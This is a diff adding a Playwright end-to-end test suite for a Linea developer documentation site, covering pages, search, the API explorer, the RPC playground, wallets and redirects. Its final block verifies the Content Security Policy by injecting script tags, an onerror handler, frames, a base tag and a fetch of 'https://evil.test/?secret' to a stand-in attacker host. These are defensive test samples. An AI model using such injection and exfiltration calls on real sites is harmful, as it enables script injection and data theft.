@@ -1,0 +1,220 @@
+import type {Page, Route} from '@playwright/test';
+import {openEndpoints} from '../../src/data/providers/endpoints';
+import {whyNot} from './nginx';
+import {expect, test} from './policy';
+import {hydrated, open} from './support';
+import {installWallets} from './wallets';
+
+test.skip(Boolean(whyNot), whyNot);
+test.describe.configure({timeout: 180_000});
+
+const cors = {'access-control-allow-origin': '*', 'access-control-allow-headers': '*'};
+const answer = (route: Route, body: unknown): Promise<void> => route.fulfill({headers: cors, json: body});
+
+/** Answers calls of a host and counts them. */
+async function stub(page: Page, url: string | RegExp, body: unknown): Promise<string[]> {
+  const calls: string[] = [];
+  await page.route(url, (route) => {
+    if (route.request().method() === 'OPTIONS') {
+      return route.fulfill({status: 204, headers: cors});
+    }
+    calls.push(route.request().url());
+    return answer(route, body);
+  });
+  return calls;
+}
+
+async function scrollThrough(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    for (let top = 0; top < document.documentElement.scrollHeight; top += window.innerHeight) {
+      window.scrollTo(0, top);
+      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 20)));
+    }
+  });
+}
+
+/** One page of every kind. */
+const kinds = [
+  '/',
+  '/get-started',
+  '/get-started/how-to/gas-fees',
+  '/get-started/how-to/run-a-node',
+  '/get-started/tooling',
+  '/get-started/tooling/oracles',
+  '/learn/first-dapp',
+  '/technology/transaction-lifecycle',
+  '/api/linea-smart-contracts/linearollup',
+  '/api/reference/linea-estimategas',
+  '/api/token-api/reference',
+  '/api/token-api/reference/operations/get-tokens',
+  '/api/decode',
+  '/api/linea-sdk',
+  '/release-notes',
+  '/zero-knowledge-glossary',
+  '/risk-disclosures',
+  '/search',
+];
+
+for (const path of kinds) {
+  test(`${path} is read to its end`, async ({guarded: page}) => {
+    await open(page, path);
+    await scrollThrough(page);
+  });
+}
+
+test('the page for what does not exist is drawn', async ({guarded: page, problems}) => {
+  expect((await page.goto('/no/such/page'))?.status()).toBe(404);
+  await hydrated(page);
+  await expect(page.getByRole('heading', {level: 1})).toHaveText('Page not found');
+  // The browser itself reports the status of the document.
+  expect(problems.splice(0).filter((problem) => !/status of 404/.test(problem))).toEqual([]);
+});
+
+test('the search suggests, opens a result and marks its terms', async ({guarded: page}) => {
+  await open(page, '/');
+  const box = page.getByRole('combobox', {name: 'Search', exact: true});
+  await box.click();
+  await box.pressSequentially('finality');
+  await expect(page.getByRole('option').first()).toBeVisible({timeout: 30_000});
+  await page.getByRole('option').first().click();
+  await expect(page.locator('article mark').first()).toBeVisible();
+  await open(page, '/search?q=sequencer&ctx=technology');
+  await expect(page.locator('main article').first()).toBeVisible({timeout: 30_000});
+});
+
+test('diagrams are drawn, in both color modes', async ({guarded: page}) => {
+  await open(page, '/technology/message-service');
+  const figure = page.locator('main figure').first();
+  await figure.scrollIntoViewIfNeeded();
+  await expect(figure.locator('svg').first()).toBeVisible();
+  for (const mode of ['light', 'dark']) {
+    await page.getByRole('button', {name: /Switch between dark and light mode/}).first().click();
+    await expect(page.locator('html')).toHaveAttribute('data-theme', mode);
+    await expect(figure.locator('svg').first()).toBeVisible();
+  }
+});
+
+test('the API explorer sends its request', async ({guarded: page}) => {
+  const calls = await stub(page, 'https://token-api.linea.build/**', {data: [], meta: {page: 1, limit: 50, totalItemsCount: 0, pagesCount: 0}});
+  await open(page, '/api/token-api/reference/operations/get-tokens');
+  const panel = page.getByRole('region', {name: 'Try it'});
+  await panel.scrollIntoViewIfNeeded();
+  await panel.getByRole('tab', {name: 'python', exact: true}).click();
+  await panel.getByLabel('order').selectOption('swaps');
+  await panel.getByRole('button', {name: 'Send API Request'}).click();
+  await expect(panel.getByText('"totalItemsCount": 0')).toBeVisible();
+  expect(calls).toHaveLength(1);
+});
+
+test('the decoder decodes', async ({guarded: page}) => {
+  await open(page, '/api/decode');
+  await page.getByRole('form', {name: 'Decoder'}).getByRole('textbox').fill('0xa74c1c5f');
+  await page.getByRole('button', {name: 'Decode', exact: true}).click();
+  await expect(page.getByRole('form', {name: 'Decoder'})).toContainText('RateLimitExceeded');
+});
+
+test.describe('the playground', () => {
+  const panel = (page: Page) => page.getByRole('region', {name: /^Playground for/});
+  const reply = {jsonrpc: '2.0', id: 1, result: {baseFeePerGas: '0x7', gasLimit: '0x5208', priorityFeePerGas: '0x43a82a4'}};
+
+  async function choose(page: Page, endpoint: string, url?: string): Promise<void> {
+    await panel(page).getByRole('combobox', {name: 'Endpoint'}).selectOption({label: endpoint});
+    if (url) {
+      await panel(page).getByRole('textbox', {name: /URL/}).fill(url);
+    }
+    await panel(page).getByRole('button', {name: 'Send'}).click();
+    await expect(panel(page).getByRole('status')).toContainText('Success.');
+  }
+
+  test('calls the public endpoints and the reader’s own URL, also when the reader came from another page', async ({guarded: page}) => {
+    const calls = await Promise.all(
+      ['https://rpc.linea.build/', 'https://rpc.sepolia.linea.build/', 'https://own.test/v3/key', 'http://localhost:8545/', 'http://127.0.0.1:8545/'].map((url) => stub(page, url, reply)),
+    );
+    await open(page, '/api/reference');
+    await page.getByRole('main').locator('a[href="/api/reference/linea-estimategas"]').first().click();
+    await panel(page).getByRole('button', {name: 'Open playground'}).click();
+    await choose(page, 'Linea Mainnet, public endpoint');
+    await choose(page, 'Linea Sepolia, public endpoint');
+    await choose(page, 'My own URL', 'https://own.test/v3/key');
+    await choose(page, 'My own URL', 'http://localhost:8545/');
+    await choose(page, 'My own URL', 'http://127.0.0.1:8545/');
+    expect(calls.map(({length}) => length)).toEqual([1, 1, 1, 1, 1]);
+  });
+});
+
+test('the endpoint check reaches every endpoint it lists', async ({guarded: page}) => {
+  for (const {url, network} of openEndpoints) {
+    await stub(page, `${url}/`, {jsonrpc: '2.0', id: 1, result: network === 'linea' ? '0xe708' : '0xe705'});
+  }
+  await open(page, '/get-started/tooling/node-providers');
+  await page.getByRole('button', {name: 'Measure the public endpoints'}).click();
+  await expect(page.getByRole('status').filter({hasText: 'Done'})).toContainText(`${openEndpoints.length} of ${openEndpoints.length}`);
+});
+
+test('a wallet is asked to add the network, and its icon is shown', async ({guarded: page}) => {
+  const icon = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>';
+  await installWallets(page, [{name: 'Fox', icon}, {name: 'Bear', icon}]);
+  await open(page, '/get-started/connect');
+  await page.getByRole('button', {name: 'Add Linea Sepolia'}).click();
+  await expect(page.getByRole('group', {name: 'Wallets in this browser'}).locator('img')).toHaveCount(2);
+  await page.getByRole('button', {name: 'Fox'}).click();
+  await expect(page.getByText('Linea Sepolia is added to Fox and selected.')).toBeVisible();
+});
+
+test('copying works, and a redirect that the browser makes arrives', async ({guarded: page, context, baseURL}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await open(page, '/get-started/build/network-info');
+  await page.getByRole('main').getByRole('button', {name: /copy/i}).first().click();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).not.toBe('');
+  // nginx redirects by itself: the page for hosts that cannot is put in its place here.
+  const policy = (await page.request.get(`${baseURL}/`)).headers()['content-security-policy'] ?? '';
+  await page.route('**/architecture?*', (route) => route.fulfill({path: 'build/architecture/index.html', headers: {'content-security-policy': policy}}));
+  await page.goto('/architecture?a=b#the-map', {waitUntil: 'commit'});
+  await page.waitForURL('/technology/architecture?a=b#the-map');
+});
+
+test.describe('what the policy is for', () => {
+  test('scripts, event handlers, calls and frames that someone slips in do nothing', async ({page}) => {
+    const foreign: string[] = [];
+    await page.route('https://evil.test/**', (route) => {
+      foreign.push(route.request().url());
+      return route.abort();
+    });
+    await open(page, '/get-started');
+    const results = await page.evaluate(async () => {
+      const blocked: string[] = [];
+      document.addEventListener('securitypolicyviolation', ({effectiveDirective}) => blocked.push(effectiveDirective));
+      const inline = document.createElement('script');
+      inline.textContent = 'window.hit = 1';
+      const remote = document.createElement('script');
+      remote.src = 'https://evil.test/x.js';
+      const image = document.createElement('img');
+      image.setAttribute('onerror', 'window.hit = 2');
+      image.src = '/img/none.png';
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.test/';
+      const base = document.createElement('base');
+      base.href = 'https://evil.test/';
+      document.body.append(inline, remote, image, frame, base);
+      await fetch('https://evil.test/?secret').catch(() => undefined);
+      // In a task of its own: the browser lets the test itself evaluate code.
+      setTimeout('window.hit = 3');
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return {blocked: [...new Set(blocked)].sort(), hit: Reflect.get(window, 'hit')};
+    });
+    expect(results).toEqual({
+      blocked: ['base-uri', 'connect-src', 'frame-src', 'script-src', 'script-src-attr', 'script-src-elem'],
+      hit: undefined,
+    });
+    expect(foreign).toEqual([]);
+  });
+
+  test('no page can be framed', async ({page}) => {
+    // A page of the same origin: the browser refuses other ones already because this server is local.
+    await page.route('**/framer', (route) => route.fulfill({contentType: 'text/html', body: '<iframe src="/get-started"></iframe>'}));
+    const refused = page.waitForEvent('requestfailed', {predicate: (request) => request.url().endsWith('/get-started'), timeout: 15_000});
+    await page.goto('/framer');
+    expect((await refused).failure()?.errorText).toContain('BLOCKED_BY_RESPONSE');
+    await expect(page.frameLocator('iframe').getByRole('navigation')).toHaveCount(0);
+  });
+});
